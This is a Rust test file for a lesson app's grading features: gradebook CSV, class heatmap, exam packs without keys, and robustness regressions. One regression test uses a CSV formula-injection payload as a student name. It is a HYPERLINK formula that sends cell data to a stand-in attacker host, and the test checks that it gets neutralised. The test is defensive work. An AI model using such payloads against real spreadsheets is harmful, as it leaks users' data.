//! Grading a class, the gradebook CSV, the class view's numbers, and exam packs without keys.

use std::path::{Path, PathBuf};
use std::process::Command;

use lateral::corpus::Corpus;
use lateral::lesson::{Lesson, StepBody};
use lateral::records::grade::{class_view, csv, grade};
use lateral::records::results::{Results, SavedHighlight, StepWork};
use lateral::text::Span;

fn bias_lesson() -> (Lesson, Corpus) {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let lib = lateral::lesson::library::load(&[root.join("lessons/02-bias.md")], &[]).expect("loads");
    let lesson = lib.lessons[0].lesson.clone().expect("the bias lesson");
    (lesson, lib.corpus)
}

/// Student `i` finds the first `i % (n + 1)` keys of every highlight step (right labels), and
/// every third student also highlights the first word of each article.
fn results_for(i: usize, lesson: &Lesson, corpus: &Corpus) -> Results {
    let mut r = Results::new(&format!("Student {i:02}"), lesson);
    for step in &lesson.steps {
        let mut w = StepWork {
            step: step.id.clone(),
            kind: step.kind_name().into(),
            attempts: 1,
            hints_used: (i % 3) as u32,
            ..Default::default()
        };
        w.started = Some("2026-11-20T09:00:00Z".into());
        w.finished = Some("2026-11-20T09:02:30Z".into());
        if let StepBody::Highlight { keys, .. } = &step.body {
            for k in keys.iter().take(i % (keys.len() + 1)) {
                let a = corpus.get(&k.article).expect("article");
                w.highlights.push(SavedHighlight::new(a, k.core, k.label.clone()));
            }
            if i.is_multiple_of(3) {
                let a = corpus.get(&step.articles[0]).expect("article");
                w.highlights.push(SavedHighlight::new(a, a.words[0], None));
            }
        }
        if let StepBody::Choice { .. } = &step.body {
            w.choices = vec![i % 2];
        }
        r.steps.push(w);
    }
    r
}

fn write_class(dir: &Path, n: usize, lesson: &Lesson, corpus: &Corpus) -> Vec<PathBuf> {
    (0..n)
        .map(|i| {
            let p = dir.join(format!("student-{i:02}.json"));
            results_for(i, lesson, corpus).save(&p).expect("saved");
            p
        })
        .collect()
}

#[test]
fn thirty_students_are_graded_and_bad_files_are_skipped_not_fatal() {
    let (lesson, corpus) = bias_lesson();
    let d = tempfile::tempdir().expect("tempdir");
    let mut files = write_class(d.path(), 30, &lesson, &corpus);
    // Bad files: not JSON, another lesson, offsets outside the article, a duplicate student.
    let junk = d.path().join("junk.json");
    std::fs::write(&junk, "not json at all").expect("written");
    let mut other = results_for(1, &lesson, &corpus);
    other.lesson.id = "another-lesson".into();
    let other_p = d.path().join("other.json");
    other.save(&other_p).expect("saved");
    let mut outside = results_for(31, &lesson, &corpus);
    outside.student = "Outside".into();
    if let Some(h) = outside.steps.iter_mut().flat_map(|s| s.highlights.iter_mut()).next() {
        h.target.selector = vec![lateral::records::results::Selector::TextPositionSelector {
            start: 999_990,
            end: 999_999,
        }];
    }
    let outside_p = d.path().join("outside.json");
    outside.save(&outside_p).expect("saved");
    let dup_p = d.path().join("dup.json");
    results_for(5, &lesson, &corpus).save(&dup_p).expect("saved");
    files.extend([junk, other_p, outside_p, dup_p]);

    let report = grade(&lesson, &corpus, &files);
    // 30 students + "Outside" (graded without its bad highlight).
    assert_eq!(report.graded.len(), 31);
    assert_eq!(report.skipped, 3);
    let msgs: Vec<String> = report
        .diagnostics
        .iter()
        .map(|d| format!("{}: {}", d.file, d.message))
        .collect();
    assert!(
        msgs.iter()
            .any(|m| m.contains("junk.json") && m.contains("not a readable results file")),
        "{msgs:#?}"
    );
    assert!(
        msgs.iter()
            .any(|m| m.contains("other.json") && m.contains("for lesson `another-lesson`")),
        "{msgs:#?}"
    );
    assert!(
        msgs.iter()
            .any(|m| m.contains("outside.json") && m.contains("past the end of the article")),
        "{msgs:#?}"
    );
    assert!(
        msgs.iter()
            .any(|m| m.contains("dup.json") && m.contains("already graded")),
        "{msgs:#?}"
    );
    // Scores are recomputed, not read: student 0 found nothing.
    let s0 = report
        .graded
        .iter()
        .find(|g| g.results.student == "Student 00")
        .expect("student 0");
    assert!(
        s0.outcome
            .steps
            .iter()
            .filter(|s| s.kind == "bias")
            .all(|s| s.score == Some(0.0))
    );
}

#[test]
fn csv_columns_and_values_for_a_known_class() {
    let (lesson, corpus) = bias_lesson();
    let d = tempfile::tempdir().expect("tempdir");
    let files = write_class(d.path(), 3, &lesson, &corpus);
    let report = grade(&lesson, &corpus, &files);
    let text = csv(&report, &lesson);
    // No byte-order mark unless asked for (`lateral grade --bom`).
    assert!(text.starts_with("student,"), "{text}");
    let rows: Vec<Vec<&str>> = text.lines().map(|l| l.split(',').collect()).collect();
    assert_eq!(
        rows[0],
        [
            "student",
            "lesson",
            "step",
            "kind",
            "score",
            "precision",
            "recall",
            "f1",
            "hints",
            "attempts",
            "seconds",
            "reflection:rewrite-headline"
        ]
    );
    // One row per student per step, plus one summary row per student.
    assert_eq!(rows.len(), 1 + 3 * (lesson.steps.len() + 1));
    // Student 1 found the first key of the headline step (2 keys): P = 1, R = 1/2.
    let r = rows
        .iter()
        .find(|r| r[0] == "Student 01" && r[2] == "headlines")
        .expect("row");
    assert_eq!(
        &r[3..],
        ["bias", "0.6667", "1.0000", "0.5000", "0.6667", "1", "1", "150", ""]
    );
    // A read step is not scored: empty score.
    let r = rows
        .iter()
        .find(|r| r[0] == "Student 01" && r[2] == "plain-report")
        .expect("row");
    assert_eq!(r[4], "");
    let total = rows
        .iter()
        .find(|r| r[0] == "Student 01" && r[2] == "TOTAL")
        .expect("total");
    assert_eq!(total[3], "lesson");
    let expected = report.graded[1].outcome.score;
    assert_eq!(total[4], format!("{expected:.4}"));
    assert_eq!(total[10], (150 * lesson.steps.len()).to_string());
}

#[test]
fn the_heatmap_counts_students_per_word() {
    let (lesson, corpus) = bias_lesson();
    let d = tempfile::tempdir().expect("tempdir");
    let files = write_class(d.path(), 6, &lesson, &corpus);
    let report = grade(&lesson, &corpus, &files);
    let classes = class_view(&report, &lesson, &corpus);
    let si = lesson.steps.iter().position(|s| s.id == "headlines").expect("step");
    let step = &lesson.steps[si];
    let c = &classes[si];
    // Key 1 ("ignored") is found by the students with i % 3 >= 1: 1, 2, 4 and 5.
    let key = &step.keys()[0];
    let art = corpus.get(&key.article).expect("article");
    let a = step.articles.iter().position(|x| *x == key.article).expect("idx");
    let w = art.words.iter().position(|w| w.start == key.core.start).expect("word");
    assert_eq!(c.heat[a][w], 4);
    // The first word of the first article: students 0 and 3 (i % 3 == 0).
    assert_eq!(c.heat[0][0], 2);
    // Nobody highlighted the last word.
    assert_eq!(*c.heat[0].last().expect("words"), 0);
    // Missed counts per key: key 1 missed by students 0 and 3; key 2 found by students 2 and 5.
    assert_eq!(c.missed[0], 2);
    assert_eq!(c.missed[1], 4);
    // The word outside the key is the most common false positive.
    assert_eq!(c.common_extras[0], (art.slice(art.words[0]).to_string(), 2));
    assert_eq!(c.scores.len(), 6);
    assert_eq!(c.histogram.iter().sum::<usize>(), 6);
}

#[test]
fn an_exam_pack_holds_no_key() {
    let corpus = lateral::lesson::bundled::corpus();
    let lessons: Vec<Lesson> = lateral::lesson::bundled::lessons(&corpus)
        .into_iter()
        .map(|l| l.lesson.expect("lesson"))
        .collect();
    let pack = lateral::records::pack::make_pack(&lessons, &corpus);
    let bytes = serde_json::to_string_pretty(&pack).expect("json");
    // Everything a student may see anyway, taken from the full lessons and corpus (not from the
    // pack): a key's quote may appear in the pack no more often than in this.
    let mut visible = String::new();
    for a in corpus.articles() {
        let m = &a.meta;
        visible.push_str(&format!(
            "{}\n{}\n{}\n{}\n",
            a.text.as_str(),
            m.outlet,
            m.headline,
            m.outlet_kind
        ));
    }
    for l in &lessons {
        visible.push_str(&format!(
            "{}\n{}\n{}\n",
            l.title,
            l.summary.clone().unwrap_or_default(),
            l.intro
        ));
        for lab in &l.labels {
            visible.push_str(&format!("{}\n{}\n", lab.name, lab.description));
        }
        for s in &l.steps {
            visible.push_str(&format!("{}\n{}\n", s.title, s.prose));
            if let StepBody::Choice { options, .. } = &s.body {
                for o in options {
                    visible.push_str(&o.text);
                    visible.push('\n');
                }
            }
        }
    }
    let visible = serde_json::to_string(&visible).expect("json");
    for l in &lessons {
        for s in &l.steps {
            for h in &s.hints {
                assert!(!bytes.contains(h.as_str()), "hint in the pack: {h}");
            }
            for k in s.keys() {
                assert!(
                    !bytes.contains(k.explanation.as_str()),
                    "explanation in the pack: {}",
                    k.explanation
                );
                for h in &k.hints {
                    assert!(!bytes.contains(h.as_str()), "key hint in the pack: {h}");
                }
                // A key's quote appears only inside the articles, never on its own.
                let quote = serde_json::to_string(&k.anchor.quote).expect("json");
                let q = &quote[1..quote.len() - 1];
                assert!(
                    bytes.matches(q).count() <= visible.matches(q).count(),
                    "quote listed on its own: {q}"
                );
            }
            if let StepBody::Choice { options, .. } = &s.body {
                for o in options {
                    if let Some(e) = &o.explanation {
                        assert!(!bytes.contains(e.as_str()), "option explanation in the pack: {e}");
                    }
                }
            }
        }
    }
    // No field that could carry a key: no offsets, no labels of keys, no right answers.
    let v: serde_json::Value = serde_json::from_str(&bytes).expect("json");
    fn keys_of(v: &serde_json::Value, out: &mut Vec<String>) {
        match v {
            serde_json::Value::Object(m) => {
                for (k, x) in m {
                    out.push(k.clone());
                    keys_of(x, out);
                }
            }
            serde_json::Value::Array(a) => a.iter().for_each(|x| keys_of(x, out)),
            _ => {}
        }
    }
    let mut names = Vec::new();
    keys_of(&v, &mut names);
    for banned in [
        "key",
        "keys",
        "core",
        "allowed",
        "start",
        "end",
        "explanation",
        "hints",
        "correct",
        "pair",
        "quote",
        "label",
    ] {
        assert!(!names.iter().any(|n| n == banned), "the pack has a `{banned}` field");
    }
    // The articles stay whole.
    assert_eq!(pack.articles.len(), corpus.articles().len());
    // And the pack plays: exam lessons without keys, graded later by hash.
    let (back, pack_corpus) = lateral::records::pack::open_pack(&bytes, "exam").expect("opens");
    assert_eq!(back.len(), lessons.len());
    assert!(
        back.iter()
            .all(|l| l.exam && l.steps.iter().all(|s| s.keys().is_empty()))
    );
    assert_eq!(back[1].sha256, lessons[1].sha256);
    assert_eq!(
        pack_corpus.get("rt").expect("rt").text.as_str(),
        corpus.get("rt").expect("rt").text.as_str()
    );
}

#[test]
fn exam_work_is_handed_in_and_graded_with_the_full_lesson() {
    let corpus = lateral::lesson::bundled::corpus();
    let lessons: Vec<Lesson> = lateral::lesson::bundled::lessons(&corpus)
        .into_iter()
        .map(|l| l.lesson.expect("lesson"))
        .collect();
    let pack = lateral::records::pack::make_pack(&lessons, &corpus);
    let (exam, exam_corpus) =
        lateral::records::pack::open_pack(&serde_json::to_string(&pack).expect("json"), "exam").expect("opens");
    let full = &lessons[0];
    let mut s = lateral::grading::session::Session::new(std::sync::Arc::new(exam[0].clone()), &exam_corpus, "Kim");
    s.go_to(1);
    assert!(s.check().is_err(), "no checking in an exam");
    assert!(!s.can_show_solution());
    for k in full.steps[1].keys() {
        let a = full.steps[1]
            .articles
            .iter()
            .position(|x| *x == k.article)
            .expect("article");
        s.add_highlight(a, k.core, None);
    }
    let handed_in = Results::from_session(&s);
    assert_eq!(handed_in.lesson.sha256, full.sha256);
    let out = lateral::records::results::score_results(&handed_in, full, &corpus);
    assert!(out.same_lesson_version);
    assert_eq!(out.steps[1].score, Some(1.0));
    let _ = Span::default();
}

#[test]
fn cli_grade_writes_the_csv_and_a_summary() {
    let (lesson, corpus) = bias_lesson();
    let d = tempfile::tempdir().expect("tempdir");
    let class = d.path().join("class");
    std::fs::create_dir_all(&class).expect("dir");
    write_class(&class, 30, &lesson, &corpus);
    std::fs::write(class.join("broken.json"), "{").expect("written");
    let csv_path = d.path().join("grades.csv");
    let o = Command::new(env!("CARGO_BIN_EXE_lateral"))
        .args(["grade", "--lesson"])
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("lessons/02-bias.md"))
        .arg("--csv")
        .arg(&csv_path)
        .arg(&class)
        .output()
        .expect("runs");
    let stdout = String::from_utf8_lossy(&o.stdout);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(
        o.status.code(),
        Some(1),
        "a skipped file means exit 1\n{stdout}\n{stderr}"
    );
    assert!(stdout.contains("30 student(s) graded, 1 file(s) skipped"), "{stdout}");
    assert!(stdout.contains("most missed:"), "{stdout}");
    assert!(stderr.contains("broken.json"), "{stderr}");
    let text = std::fs::read_to_string(&csv_path).expect("csv");
    assert_eq!(text.lines().count(), 1 + 30 * (lesson.steps.len() + 1));
    // An exam pack from the CLI.
    let pack = d.path().join("exam.lateral-exam");
    let o = Command::new(env!("CARGO_BIN_EXE_lateral"))
        .args(["pack", "--exam"])
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("lessons/02-bias.md"))
        .arg("-o")
        .arg(&pack)
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let (lessons, _) =
        lateral::records::pack::open_pack(&std::fs::read_to_string(&pack).expect("pack"), "exam").expect("opens");
    assert_eq!(lessons[0].id, "bias");
}

/// The gradebook as a spreadsheet reads it: a BOM dropped, then `csv::Reader`.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let body = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_string).collect())
        .collect()
}

/// A hand-edited results file with `hints_used` near `u32::MAX` in two steps: the gradebook
/// total wrapped round (4294967293 hints; a debug build panicked on the overflow). Now each
/// counter past 10,000 is taken as 10,000 with a warning, and totals add up saturating.
#[test]
fn regression_hint_counter_wraps_in_gradebook_total() {
    let (lesson, corpus) = bias_lesson();
    let d = tempfile::tempdir().expect("tempdir");
    let mut r = results_for(1, &lesson, &corpus);
    r.steps[0].hints_used = u32::MAX - 1;
    r.steps[1].hints_used = u32::MAX;
    r.steps[1].attempts = u32::MAX;
    r.steps[2].seconds = Some(u64::MAX);
    r.steps[3].seconds = Some(u64::MAX - 5);
    let p = d.path().join("edited.json");
    r.save(&p).expect("saved");
    let report = grade(&lesson, &corpus, &[p]);
    assert_eq!(report.graded.len(), 1);
    let warnings: Vec<&str> = report.diagnostics.iter().map(|d| d.message.as_str()).collect();
    assert!(
        warnings.contains(&"`hints_used` is 4294967294, more hints than a step can count; it is counted as 10000"),
        "{warnings:#?}"
    );
    assert!(
        warnings.iter().any(|w| w.starts_with("`attempts` is 4294967295")),
        "{warnings:#?}"
    );
    assert!(
        warnings
            .iter()
            .any(|w| w.starts_with("`seconds` is 18446744073709551615")),
        "{warnings:#?}"
    );
    assert!(report.diagnostics.iter().all(|d| !d.is_error()));
    let rows = read_csv(&csv(&report, &lesson));
    let total = rows.iter().find(|r| r[2] == "TOTAL").expect("total");
    let n = lesson.steps.len() as u64;
    // Hints: 10,000 + 10,000 + 1 for every other step (student 1 used one hint per step).
    assert_eq!(total[8], (20_000 + (n - 2)).to_string());
    assert_eq!(total[9], (10_000 + (n - 1)).to_string());
    let month = lateral::records::results::MAX_STEP_SECONDS;
    assert_eq!(total[10], (2 * month + 150 * (n - 2)).to_string());
    let step1 = rows.iter().find(|r| r[2] == lesson.steps[1].id).expect("row");
    assert_eq!(step1[8], "10000");
}

/// A student named `=HYPERLINK(...)` ran a formula in the teacher's spreadsheet. Text cells
/// that start with `=`, `+`, `-`, `@`, a tab or a carriage return now get a leading `'`.
#[test]
fn regression_csv_formula_injection_in_student_name() {
    let (lesson, corpus) = bias_lesson();
    let d = tempfile::tempdir().expect("tempdir");
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\ty",
        "\rx",
        "Ana, \"the\" =best",
    ];
    let files: Vec<PathBuf> = names
        .iter()
        .enumerate()
        .map(|(i, n)| {
            let mut r = results_for(i, &lesson, &corpus);
            r.student = n.to_string();
            let p = d.path().join(format!("s{i}.json"));
            r.save(&p).expect("saved");
            p
        })
        .collect();
    let report = grade(&lesson, &corpus, &files);
    assert_eq!(report.graded.len(), names.len(), "{:#?}", report.diagnostics);
    let rows = read_csv(&csv(&report, &lesson));
    let students: Vec<&str> = rows
        .iter()
        .skip(1)
        .filter(|r| r[2] == "TOTAL")
        .map(|r| r[0].as_str())
        .collect();
    assert_eq!(
        students,
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "'+1",
            "'-2+3",
            "'@SUM(A1:A9)",
            "'\ty",
            "'\rx",
            "Ana, \"the\" =best",
        ]
    );
    // Every row has the 11 columns and the reflect step's; the numbers the app writes stay
    // numbers.
    assert!(rows.iter().all(|r| r.len() == 12));
    let total = rows.iter().find(|r| r[2] == "TOTAL").expect("total");
    assert!(total[4].parse::<f64>().is_ok(), "{total:?}");
    assert_eq!(lateral::records::grade::text_cell("-0.5"), "'-0.5");
    assert_eq!(lateral::records::grade::text_cell("Zoë"), "Zoë");
}

/// Polish and Ukrainian names come back letter for letter through a CSV reader (and with
/// `--bom`, Excel reads them as UTF-8).
#[test]
fn polish_and_ukrainian_names_round_trip_through_the_gradebook() {
    let (lesson, corpus) = bias_lesson();
    let d = tempfile::tempdir().expect("tempdir");
    let names = ["Zażółć Gęślą-Jaźń", "Олександра Ґалаґан-Їжак"];
    let files: Vec<PathBuf> = names
        .iter()
        .enumerate()
        .map(|(i, n)| {
            let mut r = results_for(i + 1, &lesson, &corpus);
            r.student = n.to_string();
            let p = d.path().join(format!("s{i}.json"));
            r.save(&p).expect("saved");
            p
        })
        .collect();
    let report = grade(&lesson, &corpus, &files);
    let text = csv(&report, &lesson);
    assert!(text.starts_with("student,"), "no BOM unless asked for");
    let rows = read_csv(&text);
    assert_eq!(rows[0][0], "student");
    let students: Vec<&str> = rows.iter().filter(|r| r[2] == "TOTAL").map(|r| r[0].as_str()).collect();
    assert_eq!(students, names);
}

/// `lateral grade` on a folder with a results file nested 100,000 levels deep (in a field the
/// app does not read, and unclosed) beside a good one: the good one is graded, the bad ones
/// are reported with their place, and nothing overflows the stack.
#[test]
fn regression_cli_grade_continues_past_a_deeply_nested_file() {
    let (lesson, corpus) = bias_lesson();
    let d = tempfile::tempdir().expect("tempdir");
    let class = d.path().join("class");
    std::fs::create_dir_all(&class).expect("dir");
    results_for(2, &lesson, &corpus)
        .save(&class.join("good.json"))
        .expect("saved");
    let n = 100_000;
    std::fs::write(class.join("deep.json"), "[".repeat(n)).expect("written");
    let good_json = results_for(3, &lesson, &corpus).to_json();
    let hidden = good_json.replacen(
        "\"format\"",
        &format!("\"junk\": {}{},\n  \"format\"", "[".repeat(n), "]".repeat(n)),
        1,
    );
    std::fs::write(
        class.join("hidden.json"),
        hidden.replace("\"Student 03\"", "\"Student 03\", \"x\": 1"),
    )
    .expect("written");
    std::fs::write(class.join("unclosed.json"), format!("{{\"junk\": {}", "[".repeat(n))).expect("written");
    let csv_path = d.path().join("grades.csv");
    let o = Command::new(env!("CARGO_BIN_EXE_lateral"))
        .args(["grade", "--lesson"])
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("lessons/02-bias.md"))
        .arg("--csv")
        .arg(&csv_path)
        .arg(&class)
        .output()
        .expect("runs");
    let stdout = String::from_utf8_lossy(&o.stdout);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("2 student(s) graded, 2 file(s) skipped"),
        "{stdout}\n{stderr}"
    );
    assert!(stderr.contains("deep.json:1:1"), "{stderr}");
    assert!(stderr.contains("one JSON object, starting with `{`"), "{stderr}");
    assert!(stderr.contains("unclosed.json:1:"), "{stderr}");
    assert!(stderr.len() < 10_000, "{} bytes of messages", stderr.len());
    let rows = read_csv(&std::fs::read_to_string(&csv_path).expect("csv"));
    let mut students: Vec<&str> = rows.iter().filter(|r| r[2] == "TOTAL").map(|r| r[0].as_str()).collect();
    students.sort();
    assert_eq!(students, ["Student 02", "Student 03"]);
}
